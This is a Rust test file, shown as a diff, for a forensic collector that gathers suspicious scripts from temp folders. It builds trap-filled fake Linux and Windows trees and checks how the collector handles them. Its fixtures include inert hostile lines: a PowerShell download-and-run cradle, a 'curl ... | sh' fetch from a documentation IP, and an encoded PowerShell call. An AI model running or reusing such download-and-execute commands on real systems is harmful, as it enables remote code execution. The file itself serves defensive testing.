@@ -1,0 +1,345 @@
+//! `temp_scripts` on generated hostile trees: a Linux root whose /tmp holds every trap the
+//! walk must survive, and a Windows root with case-scrambled folders.
+
+use crate::harness::{Archive, RootBuilder, collect};
+use base64::Engine;
+use serde_json::Value;
+use sha2::Digest;
+use std::ffi::OsStr;
+use std::os::unix::ffi::OsStrExt;
+use std::os::unix::fs::{PermissionsExt, symlink};
+use std::path::Path;
+use std::time::{Duration, SystemTime};
+
+const MARKER: &str = "SHADOW-MARKER-7f3a9c";
+const CAP: u64 = 1 << 20;
+
+fn sha_hex(data: &[u8]) -> String {
+    sha2::Sha256::digest(data)
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect()
+}
+
+fn profile(extra: &str) -> String {
+    format!(
+        "name = \"t\"\ndescription = \"test\"\n[collectors.temp_scripts]\n\
+         max_file_copy = \"{CAP}\"\n{extra}\n"
+    )
+}
+
+fn run(root: &Path, profile_text: &str) -> (tempfile::TempDir, Archive, crate::harness::Run) {
+    let out = tempfile::tempdir().unwrap();
+    let p = out.path().join("p.toml");
+    std::fs::write(&p, profile_text).unwrap();
+    let (run, archive) = collect(
+        &out.path().join("o"),
+        &[
+            "--root",
+            root.to_str().unwrap(),
+            "--profile",
+            p.to_str().unwrap(),
+        ],
+    );
+    let archive = archive.unwrap_or_else(|| panic!("no archive: {}{}", run.stdout, run.stderr));
+    (out, archive, run)
+}
+
+fn is_root() -> bool {
+    std::fs::read_to_string("/proc/self/status")
+        .ok()
+        .and_then(|s| {
+            s.lines()
+                .find_map(|l| l.strip_prefix("Uid:"))
+                .and_then(|l| l.split_whitespace().nth(1).map(|u| u == "0"))
+        })
+        .unwrap_or(false)
+}
+
+/// The hostile tree. Returns the root and the names planted.
+fn hostile_root() -> RootBuilder {
+    let r = RootBuilder::new();
+    r.write(
+        "etc/shadow",
+        format!("root:{MARKER}:19000::::::\n").as_bytes(),
+    )
+    .write("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n")
+    .write(
+        "tmp/drop.ps1",
+        b"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\n",
+    )
+    .write(
+        "tmp/.x/payload",
+        b"#!/bin/bash\ncurl -s http://203.0.113.7/s | sh\n",
+    )
+    .write("tmp/notes.txt", b"just text\n")
+    .write("tmp/old.sh", b"echo old\n")
+    .write("tmp/locked/inner.sh", b"echo locked\n");
+    let t = r.path().join("tmp");
+    std::fs::copy("/bin/true", t.join("kworkerd")).unwrap();
+    // Aged mtime: a timestomped file whose ctime (now) still gives it away.
+    let old = SystemTime::now() - Duration::from_secs(400 * 86_400);
+    std::fs::File::options()
+        .write(true)
+        .open(t.join("old.sh"))
+        .unwrap()
+        .set_modified(old)
+        .unwrap();
+    let st = std::process::Command::new("mkfifo")
+        .arg(t.join("f"))
+        .status()
+        .unwrap();
+    assert!(st.success());
+    // Sockets: one with an innocent name (ignored), one named like a script (recorded).
+    let s1 = std::os::unix::net::UnixListener::bind(t.join("agent.sock")).unwrap();
+    let s2 = std::os::unix::net::UnixListener::bind(t.join("s.sh")).unwrap();
+    std::mem::forget((s1, s2));
+    // A symlink loop and links out of the tree.
+    std::fs::create_dir_all(t.join("loop")).unwrap();
+    symlink("../loop", t.join("loop/again")).unwrap();
+    symlink("self.sh", t.join("loop/self.sh")).unwrap();
+    symlink("/etc/shadow", t.join("shadow.sh")).unwrap();
+    symlink("/etc", t.join("etc")).unwrap();
+    // Not UTF-8.
+    std::fs::write(
+        t.join(OsStr::from_bytes(b"\xff\xfeevil.sh")),
+        b"echo bytes\n",
+    )
+    .unwrap();
+    // Sparse, larger than the per-file cap.
+    let mut sparse = std::fs::File::create(t.join("sparse.bin")).unwrap();
+    std::io::Write::write_all(&mut sparse, b"#!/bin/sh\necho sparse\n").unwrap();
+    sparse.set_len(3 * CAP + 123).unwrap();
+    std::fs::set_permissions(t.join("locked"), std::fs::Permissions::from_mode(0o000)).unwrap();
+    r
+}
+
+fn by_path<'a>(recs: &'a [Value], p: &str) -> Option<&'a Value> {
+    recs.iter().find(|r| r["path"] == p)
+}
+
+#[test]
+fn hostile_linux_tmp() {
+    let root = hostile_root();
+    let (_out, mut archive, run) = run(root.path(), &profile(""));
+    let t = root.path().join("tmp");
+    // Restore permissions so the temp dir can be removed.
+    std::fs::set_permissions(t.join("locked"), std::fs::Permissions::from_mode(0o755)).unwrap();
+    let recs = archive.records("temp_scripts");
+    let get = |p: &str| by_path(&recs, p).unwrap_or_else(|| panic!("{p} missing: {recs:#?}"));
+
+    // By extension.
+    let ps = get("/tmp/drop.ps1");
+    assert_eq!(ps["detected_type"], "powershell");
+    assert_eq!(ps["selected_by"], serde_json::json!(["extension"]));
+    assert!(
+        ps["first_line"]
+            .as_str()
+            .unwrap()
+            .starts_with("IEX (New-Object")
+    );
+    assert_eq!(ps["location"], "/tmp");
+    assert_eq!(ps["depth"], 1);
+    let want = sha_hex(&std::fs::read(t.join("drop.ps1")).unwrap());
+    assert_eq!(ps["sha256"], want);
+    assert_eq!(ps["copied"], true);
+    assert_eq!(ps["truncated"], false);
+    assert_eq!(sha_hex(&archive.member("files/tmp/drop.ps1")), want);
+
+    // By `#!` only, in a hidden directory.
+    let p = get("/tmp/.x/payload");
+    assert_eq!(p["detected_type"], "shell");
+    assert_eq!(p["selected_by"], serde_json::json!(["content"]));
+    assert_eq!(p["interpreter"], "/bin/bash");
+    assert_eq!(p["first_line"], "#!/bin/bash");
+    assert_eq!(p["depth"], 2);
+    assert!(p["mode"].is_string() && p["uid"].is_u64());
+
+    // An ELF without an extension.
+    let elf = get("/tmp/kworkerd");
+    assert_eq!(elf["detected_type"], "elf");
+    assert_eq!(elf["selected_by"], serde_json::json!(["content"]));
+    assert!(elf.get("first_line").is_none());
+    assert_eq!(elf["sha256"], sha_hex(&std::fs::read("/bin/true").unwrap()));
+
+    assert!(by_path(&recs, "/tmp/notes.txt").is_none());
+
+    // Old mtime, recent ctime: kept, and the record says why.
+    let old = get("/tmp/old.sh");
+    let recent: Vec<&str> = old["recent_by"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|v| v.as_str().unwrap())
+        .collect();
+    assert!(
+        recent.contains(&"ctime") && !recent.contains(&"mtime"),
+        "{old}"
+    );
+
+    // A FIFO is recorded by its type and never opened (the run finished: we are here).
+    let f = get("/tmp/f");
+    assert_eq!(f["file_type"], "fifo");
+    assert_eq!(f["detected_type"], "fifo");
+    assert_eq!(f["selected_by"], serde_json::json!(["file_type"]));
+    assert!(f.get("sha256").is_none() && f["copied"] == false);
+
+    // Sockets: only the one whose name matches.
+    assert!(by_path(&recs, "/tmp/agent.sock").is_none());
+    let s = get("/tmp/s.sh");
+    assert_eq!(s["detected_type"], "socket");
+    assert!(s.get("sha256").is_none());
+
+    // Links: recorded when their name matches, never followed or opened.
+    let l = get("/tmp/shadow.sh");
+    assert_eq!(l["file_type"], "symlink");
+    assert_eq!(l["detected_type"], "symlink");
+    assert_eq!(l["link_target"], "/etc/shadow");
+    assert!(l.get("sha256").is_none() && l.get("archive_member").is_none());
+    assert_eq!(get("/tmp/loop/self.sh")["file_type"], "symlink");
+    assert!(by_path(&recs, "/tmp/etc").is_none());
+    assert!(
+        !recs
+            .iter()
+            .any(|r| r["path"].as_str().unwrap().starts_with("/tmp/loop/again/")),
+        "a symlinked directory was walked"
+    );
+    // Nothing of /etc/shadow reached the archive through /tmp.
+    for name in archive.names() {
+        let data = archive.member(&name);
+        assert!(
+            !data.windows(MARKER.len()).any(|w| w == MARKER.as_bytes()),
+            "{name} holds the shadow marker"
+        );
+    }
+
+    // A name that is not UTF-8: shown lossily, kept exactly, copied under an escaped name.
+    let bad = recs
+        .iter()
+        .find(|r| r["path"].as_str().unwrap().ends_with("evil.sh"))
+        .expect("non-UTF-8 name");
+    assert_eq!(bad["path"], "/tmp/\u{fffd}\u{fffd}evil.sh");
+    let raw = base64::engine::general_purpose::STANDARD
+        .decode(bad["path_raw_b64"].as_str().unwrap())
+        .unwrap();
+    assert_eq!(raw, b"/tmp/\xff\xfeevil.sh");
+    assert_eq!(bad["archive_member"], "files/tmp/%FF%FEevil.sh");
+    assert_eq!(archive.member("files/tmp/%FF%FEevil.sh"), b"echo bytes\n");
+
+    // Sparse file over the cap: copy truncated at the cap, hash of the whole file.
+    let sp = get("/tmp/sparse.bin");
+    let whole = std::fs::read(t.join("sparse.bin")).unwrap();
+    assert_eq!(whole.len() as u64, 3 * CAP + 123);
+    assert_eq!(sp["sha256"], sha_hex(&whole));
+    assert_eq!(sp["bytes_hashed"], 3 * CAP + 123);
+    assert_eq!(sp["truncated"], true);
+    assert_eq!(sp["copied_bytes"], CAP);
+    let member = archive.member(sp["archive_member"].as_str().unwrap());
+    assert_eq!(member, whole[..CAP as usize]);
+    let m = archive.manifest();
+    let entry = m["members"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|e| e["path"] == sp["archive_member"])
+        .unwrap();
+    assert_eq!(entry["original"]["truncated"], true);
+    assert_eq!(entry["original"]["sha256"], sha_hex(&whole));
+
+    // The unreadable directory: root reads through mode 000; anyone else gets an error
+    // naming it.
+    let c = archive.collector("temp_scripts");
+    if is_root() {
+        assert!(by_path(&recs, "/tmp/locked/inner.sh").is_some());
+        assert_eq!(c["status"], "ok", "{c}");
+        assert_eq!(run.code, 0, "{}", run.stdout);
+    } else {
+        assert_eq!(c["status"], "partial", "{c}");
+        assert!(c["errors"].to_string().contains("/tmp/locked"), "{c}");
+    }
+}
+
+#[test]
+fn mtime_only_window_drops_the_aged_file() {
+    let root = hostile_root();
+    let (_o, mut archive, _) = run(root.path(), &profile("window_times = [\"mtime\"]"));
+    std::fs::set_permissions(
+        root.path().join("tmp/locked"),
+        std::fs::Permissions::from_mode(0o755),
+    )
+    .unwrap();
+    let recs = archive.records("temp_scripts");
+    assert!(by_path(&recs, "/tmp/old.sh").is_none());
+    assert!(by_path(&recs, "/tmp/drop.ps1").is_some());
+    assert!(by_path(&recs, "/tmp/kworkerd").is_some());
+}
+
+#[test]
+fn windows_root_places_case_insensitive() {
+    // On disk in other cases than the logical paths ask for, as a mounted NTFS may show.
+    let r = RootBuilder::new();
+    r.mkdir("WINDOWS/System32")
+        .write("users/alice/appdata/local/TEMP/x.ps1", b"Write-Host hi\r\n")
+        .write(
+            "users/alice/appdata/local/TEMP/sub/deeper.JS",
+            b"WScript.Echo(1)",
+        )
+        .write("users/alice/appdata/local/top.bat", b"@echo off\r\n")
+        .write(
+            "users/alice/appdata/local/Programs/inner.bat",
+            b"@echo off\r\n",
+        )
+        .write(
+            "users/alice/appdata/Roaming/upd.VBS",
+            b"CreateObject(\"WScript.Shell\")",
+        )
+        .write(
+            "users/alice/downloads/invoice.pdf",
+            b"MZ\x90\x00\x03\x00\x00\x00",
+        )
+        .write("users/PUBLIC/evil.bat", b"powershell -enc AAAA\r\n")
+        .write("users/PUBLIC/Downloads/x.hta", b"<hta:application>")
+        .write("programdata/top.vbs", b"MsgBox 1")
+        .write("programdata/deep/nested.vbs", b"MsgBox 2")
+        .write("WINDOWS/temp/t.cmd", b"whoami")
+        .write("WINDOWS/temp/readme.txt", b"text");
+    let (_o, mut archive, run) = run(r.path(), &profile(""));
+    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
+    let recs = archive.records("temp_scripts");
+    let mut paths: Vec<&str> = recs.iter().map(|r| r["path"].as_str().unwrap()).collect();
+    paths.sort();
+    assert_eq!(
+        paths,
+        [
+            r"C:\ProgramData\top.vbs",
+            r"C:\Users\Public\Downloads\x.hta",
+            r"C:\Users\Public\evil.bat",
+            r"C:\Users\alice\AppData\Local\Temp\sub\deeper.JS",
+            r"C:\Users\alice\AppData\Local\Temp\x.ps1",
+            r"C:\Users\alice\AppData\Local\top.bat",
+            r"C:\Users\alice\AppData\Roaming\upd.VBS",
+            r"C:\Users\alice\Downloads\invoice.pdf",
+            r"C:\Windows\Temp\t.cmd",
+        ]
+    );
+    let x = by_path(&recs, r"C:\Users\alice\AppData\Local\Temp\x.ps1").unwrap();
+    assert_eq!(x["user"], "alice");
+    assert_eq!(x["location"], r"C:\Users\alice\AppData\Local\Temp");
+    assert_eq!(x["first_line"], "Write-Host hi");
+    // Unix ownership of the analyst's copy means nothing for Windows evidence.
+    assert!(x.get("uid").is_none() && x.get("mode").is_none());
+    let pdf = by_path(&recs, r"C:\Users\alice\Downloads\invoice.pdf").unwrap();
+    assert_eq!(pdf["detected_type"], "pe");
+    assert_eq!(pdf["selected_by"], serde_json::json!(["content"]));
+    assert_eq!(pdf["extension"], "pdf");
+    let js = by_path(&recs, r"C:\Users\alice\AppData\Local\Temp\sub\deeper.JS").unwrap();
+    assert_eq!(js["detected_type"], "javascript");
+    assert_eq!(js["extension"], "js");
+    // Copies are named after the Windows path.
+    let member = x["archive_member"].as_str().unwrap();
+    assert!(
+        member.starts_with("files/C/Users/alice/AppData/Local/Temp/"),
+        "{member}"
+    );
+    assert_eq!(archive.member(member), b"Write-Host hi\r\n");
+}
